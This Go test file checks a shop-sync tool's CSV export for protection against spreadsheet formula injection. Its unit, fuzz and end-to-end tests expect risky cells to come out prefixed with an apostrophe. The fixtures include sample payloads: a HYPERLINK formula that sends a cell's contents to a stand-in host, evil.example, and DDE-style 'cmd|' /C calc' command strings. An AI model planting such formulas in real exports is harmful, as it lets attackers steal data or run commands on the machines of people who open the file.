package main

import (
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/shopsync/shopsync/shopifytest"
)

func TestCSVCell(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{name: "formula", in: "=HYPERLINK(\"http://x.example\",\"click\")", want: "'=HYPERLINK(\"http://x.example\",\"click\")"},
		{name: "plus", in: "+1+cmd|' /C calc'!A0", want: "'+1+cmd|' /C calc'!A0"},
		{name: "minus", in: "-2+3", want: "'-2+3"},
		{name: "at", in: "@SUM(A1:A2)", want: "'@SUM(A1:A2)"},
		{name: "tab", in: "\t=1", want: "'\t=1"},
		{name: "carriage return", in: "\r=1", want: "'\r=1"},
		{name: "phone in E.164", in: "+16135550123", want: "'+16135550123"},
		{name: "plain name", in: "Léon", want: "Léon"},
		{name: "formula later in the cell", in: "VIP, =1+1", want: "VIP, =1+1"},
		{name: "apostrophe already", in: "'=1", want: "'=1"},
		{name: "space first", in: " =1", want: " =1"},
		{name: "empty", in: "", want: ""},
		{name: "number", in: "199.65", want: "199.65"},
		{name: "time", in: "2024-04-02T14:23:53Z", want: "2024-04-02T14:23:53Z"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := formulaSafe(tt.in); got != tt.want {
				t.Errorf("formulaSafe(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// FuzzCSVCell: no cell comes out starting with a character a spreadsheet
// takes for a formula, and nothing but the leading apostrophe is added.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"", "=1+1", "+16135550123", "-", "@", "\t", "\r\n", "'", "Noël", "=\x00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := formulaSafe(s)
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
			t.Fatalf("formulaSafe(%q) = %q starts with a formula character", s, got)
		}
		if got != s && got != "'"+s {
			t.Fatalf("formulaSafe(%q) = %q: want the cell or the cell after an apostrophe", s, got)
		}
	})
}

// TestExportCSVNeutralisesFormulas: customers' own input (names, notes,
// tags) that a spreadsheet would run as a formula is exported as text.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	sim, env := shopEnv(t, shopifytest.Options{Customers: 3, Seed: 81})
	ids := sim.CustomerIDs()
	ptr := func(s string) *string { return &s }
	sim.Update(ids[0], func(c *shopifytest.Customer) {
		c.FirstName = ptr(`=HYPERLINK("http://evil.example/?"&A1,"Click")`)
		c.LastName = ptr("@SUM(1+1)*cmd|' /C calc'!A0")
		c.Phone = ptr("+16135550123")
		c.Tags = "-2+3+cmd, VIP"
		c.Note = ptr("\t=1+1")
	})
	if _, stderr, code := runCLI(t, env, "sync"); code != exitOK {
		t.Fatalf("sync: exit %d %s", code, stderr)
	}
	stdout, stderr, code := runCLI(t, env, "contacts", "export", "--format", "csv")
	if code != exitOK {
		t.Fatalf("export: exit %d %s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil || len(rows) != 4 {
		t.Fatalf("csv: %d rows, %v", len(rows), err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, r := range rows[1:] {
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %s, column %s: %q starts with a formula character", r[0], rows[0][i], cell)
			}
		}
	}
	for _, r := range rows[1:] {
		if r[0] != strconv.FormatInt(ids[0], 10) {
			continue
		}
		for name, want := range map[string]string{
			"first_name": `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "last_name": "'@SUM(1+1)*cmd|' /C calc'!A0",
			"phone": "'+16135550123", "tags": "'-2+3+cmd, VIP", "note": "'\t=1+1",
		} {
			if got := r[col[name]]; got != want {
				t.Errorf("%s: %q, want %q", name, got, want)
			}
		}
	}
}
